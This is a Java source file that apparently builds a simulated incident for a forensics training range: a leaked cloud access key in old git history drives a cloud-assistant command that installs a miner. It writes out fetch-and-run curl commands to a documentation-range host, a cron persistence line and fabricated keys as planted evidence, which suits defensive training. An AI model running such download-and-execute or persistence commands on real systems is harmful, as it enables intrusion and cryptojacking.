package davy.range.plant;

import davy.range.Command;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;

/// A leaked access key runs a miner on every server, through the cloud's own assistant.
final class CloudAssistantScene implements Scene {
    private static final String LOG =
            "/usr/local/share/aliyun-assist/1.0.1.402/log/aliyun_assist_main.log";
    private static final DateTimeFormatter TIME =
            DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss").withZone(ZoneOffset.UTC);

    @Override
    public String name() {
        return "cloud-assistant";
    }

    @Override
    public void live(Ground ground) {
        var now = Instant.now();
        ground.account("ops", "!", "/bin/bash");
        var logs = new Logs(ground, "web-1");
        logs.administrator("/var/log/auth.log", now, "ops", "192.0.2.10");
        logs.noise("/var/log/auth.log", now);
        task(ground, now.minus(5, ChronoUnit.DAYS), "df -h\nuptime\n");
        task(
                ground,
                now.minus(4, ChronoUnit.DAYS),
                "apt-get update && apt-get -y install openssl\nsystemctl restart nginx\n");
        ground.write("/srv/app/app.py", "print('hello')\n");
        ground.write(
                "/etc/cron.d/app", "0 3 * * * root /usr/bin/find /srv/app/tmp -mtime +7 -delete\n");
    }

    private static String task(Ground ground, Instant at, String command) {
        String id = "t-bj0" + ground.dice.hex(12);
        ground.append(
                LOG,
                ("%s INFO task {\"task\":{\"taskID\":\"%s\",\"type\":\"RunShellScript\","
                                + "\"commandContent\":\"%s\",\"workingDir\":\"/root\",\"timeOut\":\"60\"}}\n")
                        .formatted(TIME.format(at), id, Inert.base64(command)));
        return id;
    }

    @Override
    public Outcome attack(Ground ground, Path beside) {
        var at = Instant.now().minusSeconds(300).truncatedTo(ChronoUnit.SECONDS);
        String source = "http://203.0.113.77/" + ground.word() + "/trace.tgz";
        String command =
                "#!/bin/sh\ncd /home && curl -fsSL " + source + " | tar xzf - && ./trace/run\n";
        String id = task(ground, at, command);
        String script = ground.script("/tmp/" + id + ".sh", command);
        String miner = ground.program("/home/trace/run", SelfReplicatorScene.miner(ground));
        String cron =
                ground.write(
                        "/etc/cron.d/" + ground.word(),
                        "*/10 * * * * root curl -fsSL " + source + " -o /tmp/.t && sh /tmp/.t\n");
        // Drawn, so that nothing here is anybody's.
        String key = "LTAI5t" + ground.dice.letters(9) + "4Kp7Qz2Xw";
        String secret = "q7" + ground.dice.letters(13) + "Zr4Hn8Lm2Tk6Vb9";
        String commit = repository(beside, ground, key, secret);
        var trail = beside.resolve("actiontrail.json");
        write(trail, trail(at, id, key, command));
        return new Outcome(
                List.of(
                        new Story(
                                "cloud_command",
                                List.of(
                                        script,
                                        miner,
                                        cron,
                                        key,
                                        "203.0.113.200",
                                        "i-web2",
                                        "/srv/app/.git",
                                        commit))),
                List.of("--cloud-trail", trail.toString()));
    }

    private static String trail(Instant at, String task, String key, String command) {
        return "{\"eventId\":\"1\",\"eventName\":\"RunCommand\",\"eventSource\":\"ecs-cn-beijing.aliyuncs.com\","
                + "\"eventTime\":\""
                + at
                + "\",\"sourceIpAddress\":\"203.0.113.200\",\"userAgent\":\"aliyun-sdk-python/2.13\","
                + "\"requestParameters\":{\"CommandContent\":\""
                + Inert.base64(command)
                + "\",\"Type\":\"RunShellScript\",\"InstanceId.1\":\"i-web1\",\"InstanceId.2\":\"i-web2\"},"
                + "\"responseElements\":{\"InvokeId\":\""
                + task
                + "\"},\"userIdentity\":{\"type\":\"ram-user\",\"accountId\":\"1000\",\"userName\":\"deploy\","
                + "\"accessKeyId\":\""
                + key
                + "\"}}\n";
    }

    /// The key lies in an old commit, taken away in the newest.
    ///
    /// @return the name of the old one
    private static String repository(Path beside, Ground ground, String key, String secret) {
        var work = beside.resolve("work");
        write(
                work.resolve("deploy.env"),
                "ALIYUN_ACCESS_KEY_ID=" + key + "\nALIYUN_ACCESS_KEY_SECRET=" + secret + "\n");
        git(work, "init", "-q");
        git(work, "add", ".");
        git(work, "commit", "-q", "-m", "Deploy");
        String commit = git(work, "rev-parse", "HEAD");
        write(work.resolve("deploy.env"), "ALIYUN_ACCESS_KEY_ID=\nALIYUN_ACCESS_KEY_SECRET=\n");
        git(work, "commit", "-q", "-a", "-m", "Remove keys");
        ground.folder("/srv/app/.git", work.resolve(".git"));
        return commit;
    }

    private static String git(Path work, String... arguments) {
        var command = new ArrayList<>(List.of("git", "-C", work.toString(), "-c", "user.name=dev"));
        command.addAll(List.of("-c", "user.email=dev@example.com"));
        command.addAll(List.of(arguments));
        return Command.run(command).orThrow("git").strip();
    }

    private static void write(Path file, String text) {
        try {
            Files.createDirectories(file.resolveSibling("."));
            Files.writeString(file, text);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
